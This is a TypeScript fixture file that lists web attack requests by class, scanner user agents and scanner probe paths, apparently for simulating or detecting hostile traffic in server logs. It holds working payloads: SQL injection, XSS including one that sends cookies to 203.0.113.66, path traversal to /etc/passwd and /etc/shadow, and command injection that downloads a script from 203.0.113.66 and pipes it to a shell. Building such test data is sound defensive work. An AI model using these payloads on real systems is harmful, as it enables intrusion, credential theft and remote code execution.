/** Requests of attackers, as a web server logs them: targets only, by class. */
export const ATTACK_TARGETS = {
  sqli: [
    "/product?id=12'%20OR%20'1'='1",
    '/product?id=12%20UNION%20SELECT%20username,password%20FROM%20users--%20-',
    "/search?q=x'%20AND%20SLEEP(5)--%20-",
    '/category?sort=(SELECT%201%20FROM(SELECT%20COUNT(*),CONCAT(version(),0x3a,FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)',
    "/login?user=admin'--&password=x",
    "/product?id=3;WAITFOR%20DELAY%20'0:0:5'--",
  ],
  xss: [
    '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
    '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
    '/review?text=%3Csvg/onload=fetch(%27//203.0.113.66/%27%2Bdocument.cookie)%3E',
    '/profile?name=javascript:alert(1)',
  ],
  path_traversal: [
    '/download?file=../../../../etc/passwd',
    '/download?file=..%2f..%2f..%2f..%2fetc%2fshadow',
    '/static/..%252f..%252f..%252fetc/passwd',
    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  ],
  command_injection: [
    '/ping?host=127.0.0.1;cat%20/etc/passwd',
    '/export?format=csv%7Cid',
    '/tools?cmd=%60wget%20http://203.0.113.66/x.sh%20-O-%7Csh%60',
    '/api/convert?in=a.png%26%26curl%20203.0.113.66/p%7Cbash',
  ],
  sensitive_file: [
    '/.env',
    '/.git/config',
    '/wp-config.php.bak',
    '/backup.sql',
    '/.aws/credentials',
    '/phpinfo.php',
    '/server-status',
    '/config/database.yml',
  ],
} as const satisfies Record<string, readonly string[]>

export const SCANNER_AGENTS: readonly string[] = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
  'Mozilla/5.0 zgrab/0.x',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'python-requests/2.31.0',
]

/** Paths that a scanner tries one after the other. */
export const SCANNER_PATHS: readonly string[] = [
  '/admin/',
  '/administrator/',
  '/phpmyadmin/',
  '/pma/',
  '/wp-login.php',
  '/xmlrpc.php',
  '/cgi-bin/test.cgi',
  '/manager/html',
  '/solr/admin/',
  '/actuator/env',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/boaform/admin/formLogin',
  '/HNAP1/',
  '/owa/auth/logon.aspx',
  '/old/',
  '/test.php',
  '/backup.zip',
  '/db.sql.gz',
  '/.svn/entries',
  '/console/',
]
